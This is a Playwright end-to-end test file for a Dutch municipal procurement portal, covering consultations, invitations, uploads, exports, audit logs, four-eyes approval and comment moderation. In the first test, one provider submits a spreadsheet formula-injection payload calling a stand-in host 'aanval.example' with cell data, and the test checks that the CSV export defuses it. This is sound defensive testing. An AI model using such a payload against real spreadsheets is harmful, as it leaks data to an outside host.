import { expect, test } from "@playwright/test";
import { parse } from "csv-parse/sync";
import { expectNoSeriousA11yViolations } from "./support/axe";
import { login, newPage } from "./support/login";
import { confirmDialog } from "./support/confirm";

const local = (offsetHours: number) => {
  const d = new Date(Date.now() + offsetHours * 3600_000);
  const parts = new Intl.DateTimeFormat("sv-SE", {
    timeZone: "Europe/Amsterdam",
    year: "numeric",
    month: "2-digit",
    day: "2-digit",
    hour: "2-digit",
    minute: "2-digit",
  }).format(d);
  return parts.replace(" ", "T");
};

test("an officer publishes a closed consultation for two invited providers; an uninvited one gets a 404", async ({
  page,
  browser,
}) => {
  // The whole dialogue, feedback in four eyes with a second officer included: several minutes on a busy machine.
  test.setTimeout(180_000);
  await login(page, "inkoper@zaanstad.nl");
  await page.goto("/beheer/trajecten");
  await page.getByRole("link", { name: "Jeugdhulp ambulant regio Zaanstreek-Waterland" }).click();
  await page.getByRole("link", { name: "Nieuwe marktconsultatie" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("Nieuwe marktconsultatie");
  await expectNoSeriousA11yViolations(page);

  const title = `Besloten consultatie ${Date.now()}`;
  await page.getByLabel("Titel").fill(title);
  await page
    .getByRole("textbox", { name: "Inleiding" })
    .fill("Wij horen graag hoe u de wachttijden in de jeugd-GGZ ziet.");
  await page.getByLabel("Toegang").selectOption("closed");
  await page.getByLabel("Vorm").selectOption("written");
  await page.getByLabel("Interactie").selectOption("interactive");
  await page.getByLabel("Voor wie").selectOption("providers");
  await page.getByLabel("Opent op").fill(local(2));
  await page.getByLabel("Sluit op").fill(local(1));
  await page.getByLabel("Vraag 1").fill("Wat is nodig om wachttijden te verkorten?");
  await page.getByRole("button", { name: "Vraag toevoegen" }).click();
  await page.getByLabel("Vraag 2").fill("Hoe tevreden bent u over de samenwerking?");
  await page.getByLabel("Soort vraag").nth(1).selectOption("scale");
  await page.getByRole("button", { name: "Consultatie opslaan als concept" }).click();
  await expect(page.getByText("Het sluitmoment moet na het openingsmoment liggen.")).toBeVisible();
  await expect(page.getByLabel("Titel")).toHaveValue(title);
  await expect(page.getByLabel("Vraag 2")).toHaveValue("Hoe tevreden bent u over de samenwerking?");
  await expectNoSeriousA11yViolations(page);

  await page.getByLabel("Opent op").fill(local(-1));
  await page.getByLabel("Sluit op").fill(local(24 * 14));
  await page.getByRole("button", { name: "Consultatie opslaan als concept" }).click();
  await expect(page.getByRole("heading", { level: 1, name: title })).toBeVisible();
  await expect(page.getByText("Concept", { exact: true })).toBeVisible();
  await expectNoSeriousA11yViolations(page);

  const invite = page.getByRole("group", { name: "Zorgaanbieders" });
  await invite.getByRole("checkbox", { name: /Zorggroep Zaanstreek/ }).check();
  await invite.getByRole("checkbox", { name: /Wijkzorg Waterland/ }).check();
  await page.getByRole("button", { name: "Uitnodigen" }).click();
  await expect(page.getByText("2 nieuwe uitnodigingen verstuurd.")).toBeVisible();
  await expect(page.getByTestId("invitation-status").getByRole("row")).toHaveCount(3);
  // An attachment: a file pretending to be a PDF is refused; a real one is listed.
  await page.getByLabel("Titel van het document").fill("Notitie wachttijden");
  await page
    .getByLabel("Bestand (PDF, maximaal 10 MB)")
    .setInputFiles({ name: "notitie.pdf", mimeType: "application/pdf", buffer: Buffer.from("GIF89a geen pdf") });
  await page.getByRole("button", { name: "Uploaden" }).click();
  await expect(page.getByText("dit bestand is geen geldige PDF")).toBeVisible();
  await page.getByLabel("Bestand (PDF, maximaal 10 MB)").setInputFiles({
    name: "notitie.pdf",
    mimeType: "application/pdf",
    buffer: Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"),
  });
  await page.getByRole("button", { name: "Uploaden" }).click();
  await expect(page.getByRole("link", { name: /Download Notitie wachttijden/ })).toBeVisible();
  const attachmentHref = (await page.getByRole("link", { name: /Download Notitie wachttijden/ }).getAttribute("href"))!;

  await page.getByRole("button", { name: "Publiceren" }).click();
  await confirmDialog(page);
  await expect(page.getByText("De consultatie is gepubliceerd.")).toBeVisible();
  const consultationUrl = page.url().replace("/beheer", "").replace(/\?.*$/, "");

  const providerA = await newPage(browser);
  await login(providerA, "aanbieder@zorggroep-zaanstreek.nl");
  await providerA.getByRole("link", { name: /^Meldingen \(\d+\)$/ }).click();
  await expect(providerA.getByText(`Uitnodiging marktconsultatie: ${title}`)).toBeVisible();
  await expectNoSeriousA11yViolations(providerA);
  await providerA.goto("/consultaties");
  await providerA.getByRole("link", { name: title }).click();
  await expect(providerA.getByRole("heading", { level: 1, name: title })).toBeVisible();
  await expect(providerA.getByText("Wat is nodig om wachttijden te verkorten?").first()).toBeVisible();
  await expectNoSeriousA11yViolations(providerA);

  // Provider A drafts; the draft survives a reload.
  const secret = `KOSTPRIJS-${Date.now()}`;
  await providerA
    .getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" })
    .fill(`Meer behandelaars. ${secret}`);
  await providerA.getByRole("button", { name: "Concept opslaan" }).click();
  await expect(providerA.getByText(/Concept opgeslagen om/)).toBeVisible();
  await providerA.reload();
  await expect(providerA.getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" })).toHaveValue(
    `Meer behandelaars. ${secret}`,
  );
  await providerA.getByRole("radio", { name: "4" }).check();
  await providerA
    .getByRole("group", { name: /Wat is nodig om wachttijden/ })
    .getByRole("checkbox", { name: /Concurrentiegevoelig/ })
    .check();
  await providerA.getByRole("button", { name: "Indienen" }).click();
  await expect(providerA.getByText(/Ontvangen: uw reactie is ingediend op/)).toBeVisible();
  await expectNoSeriousA11yViolations(providerA);

  // Provider B answers too (with a formula that must not run in the officer's spreadsheet), then reads
  // A's answers, never the sensitive one.
  const formula = '=HYPERLINK("https://aanval.example/?d="&A1,"Betere samenwerking met de huisarts.")';
  const providerB = await newPage(browser);
  await login(providerB, "aanbieder@wijkzorg-waterland.nl");
  await providerB.goto(page.url().replace("/beheer", "").replace(/\?.*$/, ""));
  await expect(providerB.getByRole("heading", { name: "Reacties van andere deelnemers" })).toHaveCount(0);
  await providerB.getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" }).fill(formula);
  await providerB.getByRole("button", { name: "Indienen" }).click();
  await expect(providerB.getByText(/Ontvangen: uw reactie is ingediend op/)).toBeVisible();
  await providerB.reload();
  const shared = providerB.getByTestId("shared-response").filter({ hasText: "Zorggroep Zaanstreek" });
  await expect(shared).toContainText("4 van 5");
  expect(await providerB.content()).not.toContain(secret);
  await expectNoSeriousA11yViolations(providerB);

  await page.reload();
  // The "opened" column now has a moment for provider A.
  await expect(
    page
      .getByTestId("invitation-status")
      .getByRole("row")
      .filter({ hasText: "Zorggroep Zaanstreek" })
      .getByRole("cell")
      .nth(1),
  ).not.toHaveText("—");

  const outsider = await newPage(browser);
  await login(outsider, "zzp@zorgaandezaan.nl");
  const response = await outsider.goto(consultationUrl);
  expect(response?.status()).toBe(404);
  expect((await outsider.request.get(attachmentHref)).status()).toBe(404);
  expect((await providerA.request.get(attachmentHref)).status()).toBe(200);
  await outsider.goto("/consultaties");
  await expect(outsider.getByText(title)).toHaveCount(0);
  // The officer reads all responses side by side and exports them, sensitive answers marked.
  await page.goto(page.url().replace(/\?.*$/, "") + "/reacties");
  await expect(page.getByText(secret)).toBeVisible();
  await expect(page.getByText("[CONCURRENTIEGEVOELIG]").first()).toBeVisible();
  await expectNoSeriousA11yViolations(page);
  const csv = await page.request.get(`${new URL(page.url()).pathname.replace("/reacties", "")}/export?formaat=csv`);
  expect(csv.headers()["content-type"]).toContain("text/csv");
  expect(await csv.text()).toContain(`[CONCURRENTIEGEVOELIG] Meer behandelaars. ${secret}`);
  const cells = parse(await csv.text(), { delimiter: ";", bom: true, relax_column_count: true }).flat();
  expect(cells).toContain(`'${formula}`);
  for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@]/);
  const xlsx = await page.request.get(`${new URL(page.url()).pathname.replace("/reacties", "")}/export?formaat=xlsx`);
  expect(xlsx.headers()["content-type"]).toContain("spreadsheetml");
  expect(
    (
      await providerB.request.get(`${new URL(page.url()).pathname.replace("/reacties", "")}/export?formaat=csv`)
    ).status(),
  ).toBe(404);
  const consultationAdminPath = new URL(page.url()).pathname.replace("/reacties", "");
  // Each export is in the trajectory's audit log: who took the responses out of the portal, and how.
  await page.getByRole("link", { name: "Terug naar de consultatie" }).click();
  await page.getByRole("link", { name: "Terug naar het traject" }).click();
  await page.getByRole("link", { name: "Auditlog van dit traject" }).click();
  const exports = page.getByRole("row").filter({ hasText: "Reacties geëxporteerd" }).filter({ hasText: title });
  await expect(
    exports.filter({ hasText: "CSV, 2 reacties, waarvan 1 met een concurrentiegevoelig antwoord" }),
  ).toHaveCount(1);
  await expect(exports.filter({ hasText: "XLSX" })).toHaveCount(1);
  await expectNoSeriousA11yViolations(page);
  // The officer closes early; from then on the server refuses changes.
  await page.goto(consultationAdminPath);
  await page.getByRole("button", { name: "Nu sluiten" }).click();
  await confirmDialog(page);
  await expect(page.getByText("De consultatie is gesloten.")).toBeVisible();
  await providerA
    .getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" })
    .fill("Nog een late aanvulling");
  await providerA.getByRole("button", { name: "Wijzigingen indienen" }).click();
  await expect(providerA.getByTestId("form-message")).toContainText("neemt geen reacties (meer) aan");
  await expect(providerA.getByRole("textbox", { name: "Wat is nodig om wachttijden te verkorten?" })).toHaveValue(
    "Nog een late aanvulling",
  );

  // Feedback in four eyes: this officer writes and submits, a colleague approves, then to everyone at once.
  await page
    .getByRole("textbox", { name: "Terugkoppeling per thema" })
    .fill("Wachttijden: we nemen extra behandelcapaciteit op in de opdracht.");
  await page.getByRole("button", { name: "Concept opslaan" }).click();
  await expect(page.getByText("Het concept van de terugkoppeling is opgeslagen.")).toBeVisible();
  await expect(page.getByTestId("feedback-status")).toContainText("Concept, revisie 1.");
  await expect(page.getByRole("button", { name: "Terugkoppeling publiceren" })).toHaveCount(0);
  await page.getByRole("button", { name: "Ter beoordeling aanbieden" }).click();
  await expect(page.getByTestId("feedback-status")).toContainText("Ter beoordeling aangeboden door");
  // Who wrote it may not approve it: no review form, a Dutch explanation instead.
  await expect(page.getByText("mag haar daarom niet zelf beoordelen")).toBeVisible();
  await expect(page.getByRole("button", { name: "Beoordeling vastleggen" })).toHaveCount(0);
  await expectNoSeriousA11yViolations(page);
  const colleague = await newPage(browser);
  await login(colleague, "beleid@zaanstad.nl");
  await colleague.goto(consultationAdminPath);
  await expect(colleague.getByText("extra behandelcapaciteit")).toBeVisible();
  await colleague.getByLabel("Besluit").selectOption("approve");
  await colleague.getByRole("button", { name: "Beoordeling vastleggen" }).click();
  await expect(colleague.getByTestId("feedback-status")).toContainText("Goedgekeurd door");
  await expectNoSeriousA11yViolations(colleague);
  await colleague.context().close();
  await page.reload();
  await page.getByRole("button", { name: "Terugkoppeling publiceren" }).click();
  await confirmDialog(page);
  await expect(page.getByText("De terugkoppeling is gepubliceerd")).toBeVisible();
  await expectNoSeriousA11yViolations(page);
  for (const provider of [providerA, providerB]) {
    await provider.goto(consultationUrl);
    await expect(provider.getByText("we nemen extra behandelcapaciteit op")).toBeVisible();
    await provider.goto("/meldingen");
    await expect(provider.getByText(`Terugkoppeling marktconsultatie: ${title}`)).toBeVisible();
  }

  const admin = await newPage(browser);
  await login(admin, "beheerder@inkoopdialoog.nl");
  await admin.goto("/beheer/uitgaande-post");
  await expect(
    admin
      .getByTestId("outbox")
      .getByRole("row")
      .filter({ hasText: "aanbieder@zorggroep-zaanstreek.nl" })
      .filter({ hasText: `Uitnodiging marktconsultatie: ${title}` }),
  ).toHaveCount(1);
  await expectNoSeriousA11yViolations(admin);
  const anonymous = await newPage(browser);
  expect((await anonymous.goto(consultationUrl))?.status()).toBe(404);
});

test("a resident comments on an open consultation and an officer hides the comment with a reason", async ({
  page,
  browser,
}) => {
  await login(page, "beleid@zaanstad.nl");
  await page.goto("/beheer/trajecten");
  await page.getByRole("link", { name: "Inkoop Begeleiding Wmo 2027–2031" }).click();
  await page.getByRole("link", { name: "Nieuwe marktconsultatie" }).click();
  const title = `Open consultatie ${Date.now()}`;
  await page.getByLabel("Titel").fill(title);
  await page.getByRole("textbox", { name: "Inleiding" }).fill("Wat vindt u belangrijk in de begeleiding?");
  await page.getByLabel("Toegang").selectOption("open");
  await page.getByLabel("Vorm").selectOption("written");
  await page.getByLabel("Interactie").selectOption("non_interactive");
  await page.getByLabel("Voor wie").selectOption("both");
  await page.getByLabel("Opent op").fill(local(-1));
  await page.getByLabel("Sluit op").fill(local(48));
  await page.getByLabel("Vraag 1").fill("Wat moet beter?");
  await page.getByRole("button", { name: "Consultatie opslaan als concept" }).click();
  await page.getByRole("button", { name: "Publiceren" }).click();
  await confirmDialog(page);
  await expect(page.getByText("De consultatie is gepubliceerd.")).toBeVisible();

  // A change after publication needs a summary and is shown to everyone.
  await page.getByRole("link", { name: "Gegevens wijzigen" }).click();
  await page.getByLabel("Sluit op").fill(local(72));
  await page.getByRole("button", { name: "Wijzigingen opslaan" }).click();
  await expect(page.getByText("Beschrijf in minstens 10 tekens wat er is gewijzigd")).toBeVisible();
  await expect(page.getByLabel("Sluit op")).toHaveValue(local(72));
  await page.getByLabel("Wat is er gewijzigd?").fill("De consultatie loopt een dag langer.");
  await page.getByRole("button", { name: "Wijzigingen opslaan" }).click();
  await expect(page.getByText("De consultatie is gewijzigd.")).toBeVisible();
  await expectNoSeriousA11yViolations(page);

  const resident = await newPage(browser);
  await resident.goto("/");
  await resident.getByRole("link", { name: title }).click();
  await expect(resident.getByRole("heading", { level: 1, name: title })).toBeVisible();
  await expect(resident.getByText("De consultatie loopt een dag langer.")).toBeVisible();
  await expectNoSeriousA11yViolations(resident);
  await login(resident, "inwoner@example.nl");
  await resident.goto(page.url().replace("/beheer", "").replace(/\?.*$/, ""));
  await resident.getByRole("button", { name: "Plaatsen" }).click();
  await expect(resident.getByText("Gebruik minstens 2 tekens.")).toBeVisible();
  await resident
    .getByRole("textbox", { name: "Uw bijdrage aan het gesprek" })
    .fill("Mijn buurman meneer Jansen krijgt te weinig uren.");
  await resident.getByRole("button", { name: "Plaatsen" }).click();
  await expect(resident.getByTestId("comment")).toContainText("meneer Jansen");
  await expectNoSeriousA11yViolations(resident);

  await page.goto(page.url().replace("/beheer", "").replace(/\?.*$/, ""));
  const comment = page.getByTestId("comment").filter({ hasText: "meneer Jansen" });
  await comment.getByRole("button", { name: "Verbergen" }).click();
  await expect(page.getByText("Geef een reden")).toBeVisible();
  await comment.getByLabel("Reden om te verbergen").fill("Bevat privacygevoelige informatie over een buurtgenoot.");
  await comment.getByRole("button", { name: "Verbergen" }).click();
  await expect(
    page.getByText("Deze reactie is verborgen door de gemeente. Reden: Bevat privacygevoelige informatie"),
  ).toBeVisible();

  await resident.reload();
  await expect(
    resident.getByText("Deze reactie is verborgen door de gemeente. Reden: Bevat privacygevoelige informatie"),
  ).toBeVisible();
  expect(await resident.content()).not.toContain("meneer Jansen");
  await expectNoSeriousA11yViolations(resident);
});
